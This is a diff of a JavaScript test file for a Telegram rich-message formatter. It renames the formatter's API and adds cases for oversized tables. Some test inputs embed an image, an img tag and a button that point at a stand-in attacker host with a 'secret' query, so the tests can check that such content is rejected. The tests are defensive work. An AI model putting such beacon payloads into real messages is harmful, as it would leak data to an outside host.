@@ -15,7 +15,8 @@ test.each([
     "$x$: `\\(x\\)`\n```\n\\[y\\]\n```",
   ],
 ])("%s is a rich message", (_, text, markdown) => {
-  expect(rich.of(text)).toBe(markdown);
+  expect(rich.suits(text)).toBe(true);
+  expect(rich.markdownFor(42, text)).toBe(markdown);
 });
 
 test.each([
@@ -24,13 +25,15 @@ test.each([
   // Telegram would load it, with whatever the address says.
   ["a picture beside a table", `${TABLE}\n\n![](https://evil.example/?q=secret)`],
   ["HTML beside a table", `${TABLE}\n\n<img src="https://evil.example/?q=secret">`],
+  ["a table of more rows than one holds", TABLE + "\n| Rome | 18 |".repeat(500)],
+  ["a table of more characters than one holds", `${TABLE}\n${"word ".repeat(7_000)}`],
   ["a button beside a table", `${TABLE}\n\n<tg-button type="url" url="https://evil.example">ok</tg-button>`],
 ])("%s is an ordinary one", (_, text) => {
-  expect(rich.of(text)).toBeUndefined();
+  expect(rich.suits(text)).toBe(false);
 });
 
 test("a chat that refused one is sent no other", () => {
   rich.refusedIn(7);
-  expect(rich.isTakenIn(7)).toBe(false);
-  expect(rich.isTakenIn(42)).toBe(true);
+  expect(rich.markdownFor(7, TABLE)).toBeUndefined();
+  expect(rich.markdownFor(42, TABLE)).toBe(TABLE);
 });
